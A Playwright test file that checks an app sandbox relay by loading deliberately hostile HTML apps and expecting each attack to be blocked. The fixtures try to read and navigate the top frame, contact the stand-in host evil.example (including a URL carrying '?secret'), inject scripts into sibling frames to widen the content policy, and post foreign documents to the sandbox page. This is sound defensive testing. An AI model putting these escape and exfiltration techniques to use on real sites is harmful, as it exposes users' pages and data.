import { mkdtempSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { createRelay } from "../relay/server.ts";
import { appPolicy } from "../shared/apps/policy.ts";
import { locateSandbox } from "../shared/apps/sandbox.ts";
import { sandboxPage } from "../shared/apps/sandboxPage.ts";
import { metaContentSecurityPolicy } from "../shared/relay/page/securityHeaders.ts";

/** An app that tries what it must not be able to do, and says what came of it. */
const hostile = `<!doctype html><title>Hostile</title><h1>Hello</h1><script>
const say = (data) => parent.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data } }, "*");
const attempt = (name, act) => { try { say([name, String(act())]); } catch (error) { say([name, error.name]); } };
say(["origin", self.origin === "null" ? "opaque" : "own"]);
attempt("read top", () => top.location.href);
attempt("read page", () => top.document.title);
attempt("navigate top", () => { top.location = "https://evil.example/"; });
attempt("open", () => open("https://evil.example/"));
attempt("eval", () => eval("1"));
attempt("worker", () => new Worker("data:text/javascript,1"));
fetch("https://evil.example/fetch").catch(() => say(["fetch", "failed"]));
new Image().src = "https://evil.example/image.png";
parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready" }, "*");
parent.postMessage({ big: "a".repeat(2e7) }, "*");
addEventListener("message", ({ data }) => {
  say(["got", data.method]);
  setTimeout(() => { location.href = "https://evil.example/?secret"; }, 500);
});
console.error("broken");
</script>`;

for (const mode of ["isolated", "opaque"] as const) {
  test(`a hostile app at an ${mode} origin reaches nothing`, async ({ page }) => {
    const pageDir = mkdtempSync(join(tmpdir(), "app-sandbox-"));
    const meta = `<meta http-equiv="Content-Security-Policy" content="${metaContentSecurityPolicy([])}">`;
    writeFileSync(join(pageDir, "index.html"), `<!doctype html>${meta}<title>Page</title>`);
    writeFileSync(join(pageDir, "sandbox.html"), sandboxPage(false));
    const relay = await createRelay({ port: 0, pageDir });
    const contacted: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      contacted.push(route.request().url());
      return route.abort();
    });
    try {
      await page.goto(`${relay.origin}/`);
      const apps = await page.evaluate(() => {
        const [entry] = performance.getEntriesByType("navigation") as PerformanceNavigationTiming[];
        return entry?.serverTiming.find(({ name }) => name === "apps")?.description;
      });
      expect(apps).toContain("http://*.localhost:");
      const policy = appPolicy({}, "specification");
      const place = await locateSandbox({
        appsOrigin: mode === "isolated" ? apps : undefined,
        page: `${relay.origin}/`,
        policy,
        secret: "secret",
        server: "server",
        uri: "ui://hostile",
      });
      const messages = await page.evaluate(
        async ({ place: { url, sandbox, eventOrigin, targetOrigin }, html, text }) => {
          const received: string[] = [];
          const frame = document.createElement("iframe");
          const send = (method: string, params: object) =>
            frame.contentWindow?.postMessage(
              JSON.stringify({ jsonrpc: "2.0", method, params }),
              targetOrigin,
            );
          const over = new Promise<void>((resolve) => {
            addEventListener("message", ({ source, origin, data }) => {
              if (source !== frame.contentWindow || origin !== eventOrigin) return;
              received.push(data);
              if (received.length === 1) {
                send("ui/notifications/sandbox-resource-ready", { html, policy: text });
              }
              if (data.includes('"document-loaded"')) send("ui/hello", {});
              if (data.includes('"navigated"')) resolve();
            });
          });
          frame.setAttribute("sandbox", sandbox);
          frame.src = url;
          document.body.append(frame);
          await over;
          return received;
        },
        { place, html: hostile, text: policy.text },
      );
      const parsed = messages.map((text) => JSON.parse(text));
      const said = Object.fromEntries(
        parsed.flatMap(({ method, params }) =>
          method === "notifications/message" ? [params.data] : [],
        ),
      );
      expect(said).toEqual({
        origin: mode === "isolated" ? "own" : "opaque",
        "read top": "SecurityError",
        "read page": "SecurityError",
        "navigate top": "SecurityError",
        open: "null",
        eval: "EvalError",
        worker: expect.stringMatching(/Error|object Worker/),
        fetch: "failed",
        got: "ui/hello",
      });
      // only the sandbox page itself said that it is ready, and the large message was not passed on
      const methods = parsed.map(({ method }) => method);
      expect(methods.filter((name) => name?.endsWith("sandbox-proxy-ready"))).toHaveLength(1);
      expect(Math.max(...messages.map(({ length }) => length))).toBeLessThan(10_000);
      const reports = parsed
        .filter(({ method }) => method === "ui/notifications/sandbox-report")
        .map(({ params }) => params);
      const blocked = (directive: string) =>
        expect.objectContaining({ kind: "blocked", directive, disposition: "enforce" });
      expect(reports).toEqual(
        expect.arrayContaining([
          ...["connect-src", "img-src", "script-src", "frame-src"].map(blocked),
          expect.objectContaining({ kind: "console", text: "broken" }),
          { kind: "too-large", length: 20_000_010 },
          { kind: "navigated" },
        ]),
      );
      expect(contacted).toEqual([]);
      expect(page.url()).toBe(`${relay.origin}/`);
    } finally {
      await relay.close();
    }
  });
}

/** Serves HTML without any security header, as a plain static host does. */
async function serve(html: (path: string) => string) {
  const server = createServer(({ url = "" }, response) => {
    response.writeHead(200, { "Content-Type": "text/html" }).end(html(url));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, close: () => server.close() };
}

test("the sandbox page of a static host takes no document from another site", async ({ page }) => {
  const host = await serve((path) =>
    path.startsWith("/sandbox.html") ? sandboxPage(false) : "<title>Page</title>",
  );
  const html = "<script>localStorage.setItem('taken', '1')</script>";
  const message = JSON.stringify({
    method: "ui/notifications/sandbox-resource-ready",
    params: { policy: "", html },
  }).replaceAll("<", "\\u003c");
  const other = await serve(
    () => `<button onclick="opened = window.open(address)">Open</button>
<script>const address = "${host.origin}/sandbox.html?host=" + encodeURIComponent(origin);
const frame = document.createElement("iframe"); frame.src = address; document.body.append(frame);
let opened, sent = 0;
setInterval(() => {
  for (const each of [frame.contentWindow, opened]) each?.postMessage(${JSON.stringify(message)}, "*");
  if (opened) document.title = "sent " + ++sent;
}, 50);</script>`,
  );
  await page.goto(other.origin);
  const popup = page.waitForEvent("popup");
  await page.getByRole("button", { name: "Open" }).click();
  const opened = await popup;
  await opened.waitForLoadState();
  await page.frameLocator("iframe").locator("body").waitFor();
  await expect(page).toHaveTitle(/sent \d\d/);
  expect(await opened.evaluate(() => localStorage.getItem("taken"))).toBeNull();
  expect(opened.frames()).toHaveLength(1);
  expect(page.frames()).toHaveLength(2);
  host.close();
  other.close();
});

/** Of two frames of an app, one gives the sandbox page of the other a policy of its choice, and uses it. */
const widens = `<!doctype html><script>
const query = new URLSearchParams(parent.location.search);
query.set("policy", JSON.stringify({ profile: "lax", csp: { connectDomains: ["https://evil.example"] } }));
const run = (code) => {
  const script = document.createElement("script");
  script.textContent = code;
  parent.document.body.append(script);
};
for (let at = 0; at < top.length; at++) if (top[at] !== parent) run(
  "const other = top[" + at + "]; other.document.body.append(Object.assign(other.document.createElement('script'), " +
  "{ textContent: 'location.search = " + JSON.stringify(query.toString()) + "' }));" +
  "setInterval(() => { other.fetch('https://evil.example/widened'); }, 50);");
</script>`;

test("an app does not choose the policy of its sandbox page", async ({ page }) => {
  const pageDir = mkdtempSync(join(tmpdir(), "app-policy-"));
  const meta = `<meta http-equiv="Content-Security-Policy" content="${metaContentSecurityPolicy([])}">`;
  writeFileSync(join(pageDir, "index.html"), `<!doctype html>${meta}<title>Page</title>`);
  const relay = await createRelay({ port: 0, pageDir });
  const contacted: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    contacted.push(route.request().url());
    return route.abort();
  });
  await page.goto(`${relay.origin}/`);
  const [apps] = await page.evaluate(() =>
    performance
      .getEntriesByType("navigation")
      .flatMap((entry) => (entry as PerformanceNavigationTiming).serverTiming)
      .flatMap(({ name, description }) => (name === "apps" ? [description] : [])),
  );
  const { url, sandbox } = await locateSandbox({
    appsOrigin: apps,
    page: `${relay.origin}/`,
    policy: appPolicy(undefined, "specification"),
    secret: "secret",
    server: "server",
    uri: "ui://widens",
  });
  await page.evaluate(
    async ({ url, sandbox }) => {
      for (const name of ["first", "second"]) {
        const frame = document.createElement("iframe");
        frame.setAttribute("sandbox", sandbox);
        frame.src = url;
        frame.title = name;
        const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
        document.body.append(frame);
        await loaded;
      }
    },
    { url, sandbox },
  );
  const refused = page.waitForResponse((response) => response.url().includes("lax"));
  // the app tries to use the frame that it has changed, which is now an error page of another origin
  const tried = page.waitForEvent("pageerror", ({ message }) => message.includes("'fetch'"));
  await page.evaluate((html) => {
    const method = "ui/notifications/sandbox-resource-ready";
    const [first] = document.querySelectorAll("iframe");
    first?.contentWindow?.postMessage(JSON.stringify({ method, params: { html } }), "*");
  }, widens);
  expect((await refused).status()).toBe(403);
  await tried;
  expect(contacted).toEqual([]);
  await relay.close();
});
